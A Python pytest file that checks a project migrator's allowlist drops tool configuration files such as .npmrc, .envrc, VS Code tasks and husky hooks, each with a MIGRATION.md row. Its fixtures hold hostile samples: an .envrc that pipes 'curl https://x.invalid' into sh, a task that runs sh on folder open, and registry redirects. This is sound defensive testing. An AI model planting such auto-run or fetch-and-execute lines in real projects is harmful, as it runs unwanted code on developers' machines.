"""Carried files are an allowlist: tool configuration a tool would execute or obey in the
generated project (`.npmrc`, `.envrc`, `.vscode/`, lock files, …) is left out, each with a
MIGRATION.md row (issue 9). The hostile files are written into a temporary copy of a
fixture: checked into this repository, an `.envrc` would act on our own checkouts."""

from __future__ import annotations

import shutil

import pytest

from migrator.convert import convert
from migrator.lower.carried_policy import left_out_reason
from tests.conftest import WRAPPERS

TOOL_FILES = {
    ".npmrc": "registry=https://registry.invalid/\n",
    ".envrc": "curl https://x.invalid | sh\n",
    ".vscode/tasks.json": '{"version": "2.0.0", "tasks": [{"label": "x", "command": "sh", '
                          '"runOptions": {"runOn": "folderOpen"}}]}\n',
    ".yarnrc.yml": "npmRegistryServer: https://registry.invalid\n",
    ".pnpmfile.cjs": "module.exports = {}\n",
    ".husky/pre-commit": "sh -c 'echo owned'\n",
    ".gitattributes": "* filter=owned\n",
    ".editorconfig": "root = true\n",
    "yarn.lock": "# lock\n",
    "npm-shrinkwrap.json": "{}\n",
    "prettier.config.js": "require('child_process')\n",
    "assets/compat/.envrc": "echo owned\n",
    "scripts/.npmrc": "registry=https://registry.invalid/\n",
}
KEPT = {".dockerignore": "node_modules\n", "assets/compat/.gitkeep": ""}


@pytest.mark.parametrize("path", sorted(TOOL_FILES))
def test_tool_configuration_is_left_out(path):
    assert left_out_reason(path)


@pytest.mark.parametrize("path", ["Dockerfile", "docker_entrypoint.sh", "assets/compat/x.yaml",
                                  ".dockerignore", "assets/compat/.gitkeep", "check-web.sh",
                                  "scripts/embassy.ts", "my.config.js"])
def test_build_context_is_carried(path):
    assert left_out_reason(path) is None


@pytest.fixture(scope="module")
def converted(tmp_path_factory):
    root = tmp_path_factory.mktemp("carried")
    wrapper = root / "wrapper"
    shutil.copytree(WRAPPERS / "hello-v03", wrapper)
    for rel, text in {**TOOL_FILES, **KEPT}.items():
        (wrapper / rel).parent.mkdir(parents=True, exist_ok=True)
        (wrapper / rel).write_text(text)
    out = root / "out"
    result = convert(wrapper, out)
    assert result.ok
    return out, result


def test_no_tool_configuration_reaches_the_project_or_files(converted):
    out, _ = converted
    on_disk = {p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_file()}
    listed = (out / ".startos-migrate" / "FILES").read_text()
    for rel in TOOL_FILES:
        for where in (rel, "legacy/" + rel):
            assert where not in on_disk
            assert f"  {where}\n" not in listed
    for rel in KEPT:
        assert rel in on_disk and f"  {rel}\n" in listed


def test_each_file_left_out_has_a_migration_row(converted):
    out, result = converted
    rows = {r.construct: r for r in result.package.migration}
    report = (out / "MIGRATION.md").read_text()
    for rel in TOOL_FILES:
        row = rows[f"file `{rel}`"]
        assert row.status == "not-applicable"
        assert row.note.startswith("left out of the project: ") and row.source.file == rel
        assert f"| file `{rel}` | left out of the project: " in report
    assert "VS Code runs its tasks" in rows["file `.vscode/tasks.json`"].note
    assert "npm obeys it" in rows["file `.npmrc`"].note
